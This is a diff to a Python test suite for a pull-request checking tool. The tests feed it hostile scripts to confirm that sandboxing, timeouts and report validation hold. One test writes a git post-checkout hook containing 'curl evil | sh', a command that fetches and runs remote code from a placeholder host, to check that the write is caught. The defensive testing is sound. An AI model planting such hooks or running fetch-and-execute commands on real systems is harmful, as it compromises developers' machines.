@@ -43,6 +43,17 @@ with open(target, "w") as out:
 open(marker, "w").close()
 """
 
+# The base commit's runner: it runs the script it is given, as a test runner runs the test files a
+# pull request adds. The runner is the file tests.command names (protected, group test-command); the
+# hostile scripts are the pull request's own, as tests it adds would be.
+RUNNER = "import runpy, sys\nsys.argv = sys.argv[1:]\nrunpy.run_path(sys.argv[0], run_name='__main__')\n"
+
+
+def _run(script: str, *arguments: object) -> str:
+    """A test command running the pull request's `script` through the base commit's runner."""
+    return " ".join([PY, "run.py", script, *(shlex.quote(str(a)) for a in arguments)])
+
+
 HOLDER = """\
 import subprocess, sys
 # A detached child that keeps this command's stdout open, and leaves a mark if it outlives it.
@@ -69,6 +80,7 @@ def _pull_request(repo: GitRepo, manifest: str | None, files: dict[str, str]) ->
     """A base commit (with `manifest` as its policy) and a pull request branch adding `files`."""
     repo.write("src/calc.py", "def add(a, b):\n    return a + b\n")
     repo.write("tests/test_calc.py", TESTS)
+    repo.write("run.py", RUNNER)
     if manifest is not None:
         repo.write(MANIFEST_PATH, manifest)
     repo.commit("base")
@@ -89,7 +101,7 @@ def test_a_daemon_cannot_rewrite_the_receipt_after_receipt_exits(
 ) -> None:
     out, marker = tmp_path / "receipt.json", tmp_path / "daemon-ran"
     pr = _pull_request(repo, None, {"tools/daemon.py": DAEMON})
-    command = f"{PY} tools/daemon.py {shlex.quote(str(out))} {shlex.quote(str(marker))}"
+    command = _run("tools/daemon.py", out, marker)
     args = ["check", "--repo", str(pr.root), "--base", "main", "--test-command", command, "--json", str(out)]
     assert main(args) == 0
     written = out.read_bytes()
@@ -131,7 +143,7 @@ def test_writes_into_the_callers_repository_are_refused_in_a_namespace(repo: Git
     pr = _pull_request(repo, None, {"attack.py": attack})
     pr.checkout("main")
     before = {p: p.read_bytes() for p in (repo.root / ".git" / "config", source)}
-    receipt = check(pr, head="pr", test_command=f"{PY} attack.py")
+    receipt = check(pr, head="pr", test_command=_run("attack.py"))
     assert receipt.semantic.value == "fail"
     details = receipt.checks[0].details
     assert "Read-only file system" in details or "No such file" in details
@@ -146,7 +158,7 @@ def test_writes_into_the_callers_git_directory_are_reported_without_a_namespace(
     hook = repo.root / ".git" / "hooks" / "post-checkout"
     attack = f"open({str(hook)!r}, 'w').write('#!/bin/sh\\ncurl evil | sh\\n')\n"
     pr = _pull_request(repo, None, {"attack.py": attack})
-    receipt = check(pr, test_command=f"{PY} attack.py")
+    receipt = check(pr, test_command=_run("attack.py"))
     assert len(receipt.scope) == 1, receipt.scope
     (violation,) = receipt.scope
     assert (violation.rule.value, violation.path, violation.id) == (
@@ -164,9 +176,7 @@ def test_a_detached_child_holding_stdout_does_not_hold_receipt(
     pid_file, mark = tmp_path / "child.pid", tmp_path / "child-outlived"
     pr = _pull_request(repo, _policy(timeout_minutes=0.5), {"tools/holder.py": HOLDER})
     started = time.monotonic()
-    receipt = check(
-        pr, test_command=f"{PY} tools/holder.py {shlex.quote(str(pid_file))} {shlex.quote(str(mark))}"
-    )
+    receipt = check(pr, test_command=_run("tools/holder.py", pid_file, mark))
     assert time.monotonic() - started < 10, "receipt did not wait for the detached child"
     assert receipt.semantic.value == "pass" and "parent done" in receipt.checks[0].details
     time.sleep(2.5)
@@ -181,9 +191,7 @@ def test_in_a_session_only_a_child_holding_stdout_is_an_error_not_a_wait(
     pr = _pull_request(repo, _policy(timeout_minutes=0.5), {"tools/holder.py": HOLDER})
     started = time.monotonic()
     try:
-        receipt = check(
-            pr, test_command=f"{PY} tools/holder.py {shlex.quote(str(pid_file))} {shlex.quote(str(mark))}"
-        )
+        receipt = check(pr, test_command=_run("tools/holder.py", pid_file, mark))
     finally:
         if pid_file.exists():
             os.kill(int(pid_file.read_text()), signal.SIGKILL)  # it escaped the session, as documented
@@ -287,7 +295,7 @@ def test_a_committed_or_forged_report_is_not_evidence(repo: GitRepo) -> None:
     old = f"import os\nos.makedirs('out')\nopen('out/r.xml', 'w').write({forged!r})\nos.utime('out/r.xml', (0, 0))\n"
     pr2 = GitRepo.create(repo.root.parent / "second")
     _pull_request(pr2, _policy(report="out/r.xml"), {"old.py": old})
-    (result,) = evidence_checks(check(pr2, test_command=f"{PY} old.py"))
+    (result,) = evidence_checks(check(pr2, test_command=_run("old.py")))
     assert result.conclusion is CheckConclusion.ERROR and "older than the run" in result.details
 
 
@@ -298,7 +306,7 @@ def test_a_hostile_report_is_a_clear_error(repo: GitRepo) -> None:
     )
     writer = f"import os\nos.makedirs('reports')\nopen('reports/junit.xml', 'w').write({laughs!r})\n"
     pr = _pull_request(repo, _policy(report="reports/junit.xml"), {"w.py": writer})
-    (result,) = evidence_checks(check(pr, test_command=f"{PY} w.py"))
+    (result,) = evidence_checks(check(pr, test_command=_run("w.py")))
     assert result.conclusion is CheckConclusion.ERROR
     assert "refused at line 1: a DOCTYPE" in result.details
 
